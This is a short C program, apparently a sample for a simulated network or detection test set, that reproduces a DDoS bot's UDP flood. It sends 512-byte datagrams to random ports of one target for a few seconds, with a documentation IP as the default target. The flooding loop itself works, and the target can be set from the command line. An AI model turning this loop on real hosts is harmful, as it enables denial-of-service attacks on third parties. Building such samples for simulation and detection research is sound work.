/* Wild-set stand-in: a UDP flood (harmless: documentation address, simulated internet,
 * 4 seconds). Sends 512-byte datagrams to random ports of one target from one socket, as the
 * "udp" attack of a DDoS bot does, then exits. The simulator counts and drops them. */
#include <arpa/inet.h>
#include <netinet/in.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

int main(int argc, char **argv) {
    const char *target = argc > 1 ? argv[1] : "198.51.100.77";
    int seconds = argc > 2 ? atoi(argv[2]) : 4;
    if (seconds < 1 || seconds > 5) seconds = 4;
    struct sockaddr_in to = {.sin_family = AF_INET};
    if (inet_pton(AF_INET, target, &to.sin_addr) != 1) return 1;
    int fd = socket(AF_INET, SOCK_DGRAM, 0);
    char payload[512];
    memset(payload, 'A', sizeof payload);
    unsigned seed = 12345;
    time_t stop = time(NULL) + seconds;
    while (time(NULL) < stop) {
        for (int i = 0; i < 200; i++) {
            seed = seed * 1103515245 + 12345;
            to.sin_port = htons((unsigned short)(1024 + seed % 60000));
            sendto(fd, payload, sizeof payload, 0, (struct sockaddr *)&to, sizeof to);
        }
    }
    close(fd);
    return 0;
}
